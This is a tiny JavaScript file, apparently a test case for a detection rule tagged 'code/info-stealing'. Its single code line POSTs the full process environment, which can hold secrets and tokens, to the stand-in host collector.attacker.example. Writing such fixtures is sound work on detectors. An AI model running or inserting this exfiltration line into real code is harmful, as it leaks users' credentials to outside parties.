// The environment leaves through the request object the factory returned: no variable, no named sink.
const https = require('https');
// ruleid: code/info-stealing
https.request({ host: 'collector.attacker.example', method: 'POST', path: '/e' }).end(JSON.stringify(process.env));
